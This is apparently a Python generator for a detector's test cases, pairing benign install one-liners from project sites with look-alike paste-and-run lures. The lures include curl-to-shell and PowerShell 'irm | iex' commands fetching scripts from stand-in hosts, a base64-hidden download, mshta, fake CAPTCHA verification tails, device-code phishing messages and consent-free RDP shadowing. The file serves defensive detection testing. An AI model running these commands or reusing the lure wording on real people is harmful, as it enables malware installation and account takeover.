"""Writes tests/data/cases/b5benign.jsonl: installers and texts developers and admins paste, with
the page they came from, that were warned about or blocked although nothing in them is a lure,
each beside the look-alike lures that must stay flagged or blocked.

    python tests/data/cases/make_b5benign.py

Deterministic. Project names are made up; lure hosts are reserved names (*.test, *.example) or
made-up tenants of real hosting suffixes. No text is copied from a blind set, a lure collection
or another detector's fixtures. Each line is {id, text, expect, technique, platform, source,
target}.

Principles:

- `tenant-site`: on web hosting where anyone gets a name (pages.dev, netlify.app, vercel.app,
  web.app, fly.dev, onrender.com...) the Public Suffix List's private section makes each name a
  site of its own; a project's docs there serving its own install script from that very site
  are one owner speaking. Look-alikes: another tenant of the same suffix, a stranger's host, a
  known publisher's name as a tenant, a fake check page, a borrowed company name with bait
  words, a page about something else, plain HTTP (a warning, never a block: make_b6benign.py),
  a lure tail, tunnels and paste sites (no project keeps its site there), the Run box.
- `short-link`: a short link hides where the script comes from. The project's own page (its
  repository page, its own site) handing out a short link named after the project is the
  project's choice (info); a tutorial, a question or a forum quoting it gets a warning, never a
  block. Look-alikes: a link named otherwise, the project's issues, a forum on its domain, a
  page about something else, a check page, a lure tail, hidden in base64, the Run box.
- `installer-repo`: a project's own site vouches for the repository of its installer named by
  the site's core and one installer word (saltproject.io's core salt: salt-bootstrap, like
  widgetctl-installer), from the site's own sections. Look-alikes: a forum on the site, a page
  about something else, another word after the name.
- `docs-affix`: a project's own documentation host (docs.<its domain>) whose page names the
  product, for the product's domain spelt with a company's word in front (docs.qx.dev's page on
  quillix and withquillix.dev). Look-alikes: the same page name on a blog, dev.to or a forum, a
  docs page naming another product.
- `tail-addresses`: a lure's tail is words shown to a person; an address or a file path in an
  echoed line (an apt source naming pkg.example-cloudflare… and a keyring file) is no such word.
  Look-alikes: the same company's name as a word of a tail after a comment, REM or echo.
- `device-code-docs`: documentation of the device-code flow quotes the sign-in message an app
  shows ("open the page … and enter the code …") beside the app's side of it (its token
  endpoint, the polling): an example, not a code someone hands you. Look-alikes: the same
  message with a meeting, a document or an identity check as the excuse.
- `remote-desktop`: `mstsc /v:<computer>` typed into the Run box (no web page) is an admin's
  connection to a named computer; from a web page it is a command there like any other, and a
  file, an address, shadowing or a chain make it a command anyway.
- `video-page`: a video or social post's address carries ids, not a subject (youtube.com/watch):
  a download-and-run quoted there is a warning like from any page that says nothing, not a
  block as from a page about something else. Look-alikes: a lure trait, a forum thread about
  cooking, a shop's page.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b5benign.jsonl")
STRANGER = "https://www.harbour-bistro.example/menu/winter"
BENIGN = "none"


def ok(
    cid: str, text: str, platform: str, source: str | None, target: str = "terminal"
) -> dict[str, str]:
    return case(f"b5b-ok-{cid}", text, "not_flagged", BENIGN, platform, source, target)


def lure(
    cid: str, text: str, expect: str, technique: str, platform: str, source: str | None,
    target: str = "terminal",
) -> dict[str, str]:  # fmt: skip
    return case(f"b5b-lure-{cid}", text, expect, technique, platform, source, target)


# (page, script) of long-tail projects whose whole site is a tenant of a hosting suffix
TENANTS = [
    ("https://tarnctl.netlify.app/docs/getting-started", "https://tarnctl.netlify.app/install.sh"),
    ("https://wickra.vercel.app/", "https://wickra.vercel.app/install"),
    ("https://loamdb.pages.dev/docs/install", "https://loamdb.pages.dev/install.sh"),
    ("https://main.loamdb.pages.dev/quickstart", "https://loamdb.pages.dev/install.sh"),
    ("https://quay-run.fly.dev/docs", "https://quay-run.fly.dev/install.sh"),
    ("https://brindle.onrender.com/getting-started", "https://brindle.onrender.com/install.sh"),
    ("https://sorrel-cli.deno.dev/", "https://sorrel-cli.deno.dev/install.sh"),
    ("https://kelpie.workers.dev/docs/install", "https://kelpie.workers.dev/install"),
    ("https://mossy.surge.sh/", "https://mossy.surge.sh/install.sh"),
    ("https://fenwick-cli.herokuapp.com/docs", "https://fenwick-cli.herokuapp.com/install.sh"),
    ("https://glimmerkit.firebaseapp.com/install", "https://glimmerkit.firebaseapp.com/install.sh"),
    ("https://pellet.web.app/", "https://pellet.web.app/install.sh"),
]
SHAPES = [
    ("pipe", "curl -fsSL {} | sh"),
    ("bash-c", 'bash -c "$(curl -fsSL {})"'),
    ("saved", "curl -fsSLo install.sh {} && sh install.sh"),
]


def tenant_sites() -> list[dict[str, str]]:
    out = []
    for i, (page, script) in enumerate(TENANTS, 1):
        name, shape = SHAPES[i % len(SHAPES)]
        out.append(ok(f"tenant-{name}-{i}", shape.format(script), "linux", page))
    # PowerShell from a tenant site's own docs, into a terminal
    out += [
        ok("tenant-ps-1", "irm https://pellet.web.app/install.ps1 | iex", "windows", "https://pellet.web.app/docs/windows"),
        ok("tenant-ps-2", 'powershell -ExecutionPolicy Bypass -c "irm https://wickra.vercel.app/install.ps1 | iex"', "windows", "https://wickra.vercel.app/docs/install"),
    ]  # fmt: skip
    pipe = "curl -fsSL {} | sh"
    docs = "https://loamdb.pages.dev/docs/install"
    out += [
        # another tenant of the same suffix is a stranger, whatever its name
        lure("tenant-other-1", pipe.format("https://loamdb-cdn.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
        lure("tenant-other-2", pipe.format("https://tarnctl.vercel.app/install.sh"), "malicious", "T1105", "linux", "https://tarnctl.netlify.app/docs/getting-started"),
        lure("tenant-other-3", pipe.format("https://evil-7.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
        # a stranger's host, from a tenant site
        lure("tenant-stranger-1", pipe.format("https://cdn.loamdb-get.test/install.sh"), "flagged", "T1105", "linux", docs),
        # a tenant site's script from a page about something else
        lure("tenant-unrelated-1", pipe.format("https://loamdb.pages.dev/install.sh"), "malicious", "T1204.004", "linux", STRANGER),
        lure("tenant-offtopic-1", pipe.format("https://loamdb.pages.dev/install.sh"), "malicious", "T1204.004", "linux", "https://loamdb.pages.dev/recipes/winter-soup"),
        # a known publisher's name as a tenant: its home is elsewhere
        lure("tenant-known-1", pipe.format("https://rustup.pages.dev/install.sh"), "malicious", "T1036", "linux", "https://rustup.pages.dev/"),
        lure("tenant-known-2", pipe.format("https://ollama.netlify.app/install.sh"), "malicious", "T1036", "linux", "https://ollama.netlify.app/download"),
        lure("tenant-known-3", pipe.format("https://rustup-install.vercel.app/i.sh"), "malicious", "T1036", "linux", "https://rustup-install.vercel.app/"),
        # fake check pages and borrowed names with bait words, serving their own script
        lure("tenant-check-1", pipe.format("https://human-check-42.pages.dev/v.sh"), "malicious", "T1204.004", "macos", "https://human-check-42.pages.dev/"),
        lure("tenant-check-2", pipe.format("https://quiet-lab.netlify.app/v.sh"), "malicious", "T1204.004", "macos", "https://quiet-lab.netlify.app/captcha/verify"),
        lure("tenant-bait-1", pipe.format("https://teams-meeting-audio.vercel.app/fix.sh"), "malicious", "T1204.004", "macos", "https://teams-meeting-audio.vercel.app/"),
        lure("tenant-bait-2", pipe.format("https://chrome-update-fix.web.app/u.sh"), "malicious", "T1204.004", "macos", "https://chrome-update-fix.web.app/"),
        # the same site, but plain HTTP, or with a lure's tail or a hidden window
        lure("tenant-http-1", pipe.format("http://loamdb.pages.dev/install.sh"), "suspicious", "T1105", "linux", docs),
        lure("tenant-tail-1", pipe.format("https://loamdb.pages.dev/install.sh") + " # I am not a robot - verification ID 4471", "malicious", "T1204.004", "macos", docs),
        lure("tenant-hidden-1", 'powershell -w hidden -c "irm https://pellet.web.app/install.ps1 | iex"', "malicious", "T1204.004", "windows", "https://pellet.web.app/"),
        # tunnels and paste sites are nobody's project site
        lure("tenant-tunnel-1", pipe.format("https://amber-fox-quiet.trycloudflare.com/i.sh"), "malicious", "T1105", "linux", "https://amber-fox-quiet.trycloudflare.com/docs"),
        lure("tenant-paste-1", "curl -fsSL https://pastebin.com/raw/Xq7bT2kd | bash", "malicious", "T1105", "linux", "https://pastebin.com/Xq7bT2kd"),
        # the Run box: no project asks for a paste there; and with no page at all
        lure("tenant-runbox-1", 'powershell -c "irm https://pellet.web.app/install.ps1 | iex"', "malicious", "T1204.004", "windows", "https://pellet.web.app/", "run_dialog"),
        lure("tenant-bare-1", pipe.format("https://loamdb.pages.dev/install.sh"), "flagged", "T1105", "linux", None),
    ]  # fmt: skip
    return out


def short_links() -> list[dict[str, str]]:
    gh = "https://github.com/brackenfold/pollinate"
    site = "https://pollinate.dev/docs/install"
    tutorial = "https://www.linuxnotes.example/how-to-install-pollinate-on-debian/"
    out = [
        ok("short-own-forge-1", "curl -L https://bit.ly/pollinate | bash", "linux", gh),
        ok("short-own-forge-2", "curl -sL https://tinyurl.com/brackenfold | sh", "linux", gh + "#installation"),
        ok("short-own-site-1", "curl -fsSL https://bit.ly/pollinate | sh", "macos", site),
        ok("short-own-site-2", "bash <(curl -sL https://is.gd/pollinate)", "linux", "https://docs.pollinate.dev/quickstart"),
    ]  # fmt: skip
    # quoted by a tutorial, a question, a forum: a warning, never a block
    for i, page in enumerate(
        (
            tutorial,
            "https://unix.stackexchange.com/questions/771234/pollinate-installer-fails",
            "https://forum.pollinate.dev/t/install-on-arm/88",
            gh + "/issues/311",
        ),
        1,
    ):
        out.append(
            lure(
                f"short-quoted-{i}",
                "curl -L https://bit.ly/pollinate | bash",
                # an issue thread is where anyone posts a "fix" through a short link (lures6):
                # blocked there, a warning from a tutorial, a question or a forum
                "malicious" if "/issues/" in page else "suspicious",
                "T1204.004",
                "linux",
                page,
            )
        )
    out += [
        # a short link named otherwise than the page's project: a warning, as from a tutorial
        lure("short-other-1", "curl -L https://bit.ly/x7Qm2 | bash", "flagged", "T1105", "linux", gh),
        lure("short-other-2", "curl -L https://bit.ly/rustup | bash", "flagged", "T1036", "linux", "https://github.com/brackenfold/rustup-tools"),
        # from a page about something else, a check page, with a lure's tail, hidden
        lure("short-unrelated-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1204.004", "linux", STRANGER),
        lure("short-check-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1204.004", "macos", "https://pollinate-verify.example/captcha"),
        lure("short-tail-1", "curl -L https://bit.ly/pollinate | bash # I am not a robot - ID 2291", "malicious", "T1204.004", "macos", tutorial),
        lure("short-hidden-1", "echo Y3VybCAtTCBodHRwczovL2JpdC5seS9wb2xsaW5hdGUgfCBiYXNo | base64 -d | bash", "malicious", "T1027", "macos", tutorial),
        # the Run box, and no page at all
        lure("short-runbox-1", 'powershell -c "irm https://bit.ly/pollinate | iex"', "malicious", "T1204.004", "windows", gh, "run_dialog"),
        lure("short-bare-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1105", "linux", None),
    ]  # fmt: skip
    return out


def installer_repos() -> list[dict[str, str]]:
    docs = "https://docs.brambleproject.io/en/latest/install/bootstrap.html"
    saved = "curl -o bootstrap.sh -L https://github.com/{}/releases/latest/download/bootstrap.sh\nsudo sh bootstrap.sh -P stable"
    return [
        ok("repo-bootstrap-1", saved.format("brambleworks/bramble-bootstrap"), "linux", docs),
        ok("repo-bootstrap-2", "curl -fsSL https://raw.githubusercontent.com/brambleworks/bramble-installer/main/install.sh | sh", "linux", "https://brambleproject.io/download/"),
        ok("repo-bootstrap-3", "curl -fsSL https://raw.githubusercontent.com/k7s-team/k7s-setup/main/get.sh | bash", "linux", "https://docs.k7sproject.dev/install"),
        lure("repo-bootstrap-forum-1", saved.format("brambleworks/bramble-bootstrap"), "flagged", "T1105", "linux", "https://forum.brambleproject.io/t/install-help/71"),
        lure("repo-bootstrap-unrelated-1", saved.format("brambleworks/bramble-bootstrap"), "malicious", "T1204.004", "linux", "https://brambleproject.io/shop/winter-soup-recipes"),
        lure("repo-bootstrap-other-1", "curl -fsSL https://raw.githubusercontent.com/brambleworks/bramble-helper/main/fix.sh | sh", "flagged", "T1105", "linux", docs),
    ]  # fmt: skip


def docs_affix() -> list[dict[str, str]]:
    cmd = 'bash -c "$(curl -fsSL https://withquillix.dev/install.sh)"'
    return [
        ok("docs-affix-1", cmd, "linux", "https://docs.qx.dev/installing-quillix/cli/"),
        ok("docs-affix-2", "curl -fsSL https://get.usequillix.io/install.sh | sh", "macos", "https://developer.qx.dev/quillix/install"),
        lure("docs-affix-blog-1", cmd, "flagged", "T1105", "linux", "https://linuxnotes.example/installing-quillix"),
        lure("docs-affix-devto-1", cmd, "flagged", "T1105", "linux", "https://dev.to/someone/installing-quillix-3k"),
        lure("docs-affix-forum-1", cmd, "flagged", "T1105", "linux", "https://forum.qx.dev/t/installing-quillix/12"),
        lure("docs-affix-other-1", cmd, "flagged", "T1105", "linux", "https://docs.qx.dev/installing-agent/"),
    ]  # fmt: skip


def tail_addresses() -> list[dict[str, str]]:
    apt = (
        "curl -fsSL https://apt.quillmesh.dev/gpg | sudo tee /usr/share/keyrings/cloudflare-quill.gpg >/dev/null\n"
        "echo 'deb [signed-by=/usr/share/keyrings/cloudflare-quill.gpg] https://apt.quillmesh.dev/stable any main'"
        " | sudo tee /etc/apt/sources.list.d/quill.list"
    )
    docs = "https://quillmesh.dev/docs/install/debian"
    return [
        ok("tail-apt-1", apt, "linux", docs),
        ok("tail-apt-2", "echo \"deb [arch=amd64] https://mirror.cloudflare-cache.example/debian stable main\" | sudo tee -a /etc/apt/sources.list", "linux", "https://wiki.homelab.example/apt-mirrors"),
        lure("tail-word-1", "curl -fsSL https://quill-cdn.test/a.sh | bash # Cloudflare Ray ID: 8f2a77 verified", "malicious", "T1204.004", "macos", "https://shop.example/p/9921"),
        lure("tail-word-2", "curl -fsSL https://quill-cdn.test/a.sh | bash; echo ✅ Verified by Cloudflare", "malicious", "T1204.004", "macos", "https://shop.example/p/9921"),
        lure("tail-word-3", "mshta https://quill-cdn.test/v.hta & REM I am not a robot: reCAPTCHA ID 4471", "malicious", "T1204.004", "windows", "https://shop.example/p/9921", "run_dialog"),
    ]  # fmt: skip


def device_code_docs() -> list[dict[str, str]]:
    docs = "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code"
    message = "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code {} to authenticate."
    return [
        ok("devicecode-docs-1", "Your app shows the user this message: " + message.format("H7QK2PLX9") + " Meanwhile it polls the token endpoint every 5 seconds.", "any", docs, "other"),
        ok("devicecode-docs-2", message.format("RT4M8ZQ2W") + " The client polls the token endpoint until the user finishes signing in or the code expires.", "any", "https://docs.quillmesh.dev/auth/device-login", "other"),
        lure("devicecode-meeting-1", "You are invited to the quarterly review meeting. To join, open https://microsoft.com/devicelogin and enter the code H7QK2PLX9.", "flagged", "T1528", "any", None, "other"),
        lure("devicecode-document-1", "A secure document was shared with you. To view it, go to https://microsoft.com/devicelogin and enter code RT4M8ZQ2W", "flagged", "T1528", "any", "https://share-docs.example/view/8812", "other"),
    ]  # fmt: skip


def remote_desktop() -> list[dict[str, str]]:
    page = "https://helpdesk-portal.example/kb/connect"
    return [
        ok("rdp-typed-1", "mstsc /v:term01.corp.example", "windows", None, "run_dialog"),
        ok("rdp-typed-2", "mstsc /v:10.20.30.40:3390 /admin", "windows", None, "run_dialog"),
        ok("rdp-typed-3", "mstsc.exe /v:jump-host /w:1600 /h:900", "windows", None, "run_dialog"),
        lure("rdp-page-1", "mstsc /v:rdp.quiet-harbor.example", "malicious", "T1204.004", "windows", page, "run_dialog"),
        lure("rdp-file-1", r"mstsc \\198.51.100.4\share\corp.rdp", "flagged", "T1204.004", "windows", None, "run_dialog"),
        lure("rdp-chain-1", "mstsc /v:term01 & powershell -w h -c iwr https://quiet-harbor.test/a | iex", "malicious", "T1204.004", "windows", None, "run_dialog"),
        lure("rdp-shadow-1", "mstsc /shadow:1 /v:term01 /control /noConsentPrompt", "flagged", "T1021.001", "windows", None, "run_dialog"),
    ]  # fmt: skip


def video_pages() -> list[dict[str, str]]:
    watch = "https://www.youtube.com/watch?v=Rk2wQ8pLx0c"
    return [
        lure("video-quoted-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "suspicious", "T1204.004", "linux", watch),
        lure("video-quoted-2", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "suspicious", "T1204.004", "linux", "https://x.com/someone/status/1799123456"),
        lure("video-tail-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash # ✅ verification complete", "malicious", "T1204.004", "macos", watch),
        lure("video-forum-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "malicious", "T1204.004", "linux", "https://www.reddit.com/r/cooking/comments/1h2kq9z/best_winter_soup/"),
        lure("video-shop-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "malicious", "T1204.004", "linux", STRANGER),
    ]  # fmt: skip


def build() -> list[dict[str, str]]:
    cases = [
        *tenant_sites(),
        *short_links(),
        *installer_repos(),
        *docs_affix(),
        *tail_addresses(),
        *device_code_docs(),
        *remote_desktop(),
        *video_pages(),
    ]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
